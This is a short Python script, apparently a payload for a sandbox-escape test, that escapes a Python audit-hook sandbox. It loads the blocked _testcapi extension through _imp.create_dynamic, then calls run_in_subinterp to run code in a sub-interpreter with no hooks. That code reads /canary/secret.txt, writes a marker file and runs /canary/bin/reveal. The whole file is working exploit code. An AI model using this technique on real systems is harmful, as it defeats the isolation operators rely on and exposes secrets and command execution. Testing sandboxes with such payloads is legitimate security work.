# ALL: load refused _testcapi via _imp.create_dynamic; run_in_subinterp runs code in a hook-free sub-interpreter
import sys
_imp = sys.modules['_imp']
Spec = type(sys.__spec__)
tc = _imp.create_dynamic(Spec('_testcapi', None, origin='/usr/lib/python3.11/lib-dynload/_testcapi.cpython-311-x86_64-linux-gnu.so'))
sys.stdout.flush()
tc.run_in_subinterp("import os\nprint(open('/canary/secret.txt').read())\nopen('/canary/out/testcapi','w').close()\nos.system('/canary/bin/reveal')\n")
